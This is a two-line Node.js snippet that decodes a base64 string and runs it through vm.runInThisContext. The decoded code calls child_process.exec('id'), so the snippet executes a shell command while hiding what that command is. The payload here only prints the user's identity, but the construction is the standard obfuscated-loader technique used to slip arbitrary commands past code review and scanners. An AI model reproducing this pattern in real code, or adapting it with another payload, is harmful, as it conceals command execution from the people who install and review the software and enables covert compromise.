const vm = require('vm');
vm.runInThisContext(Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyk=', 'base64').toString());
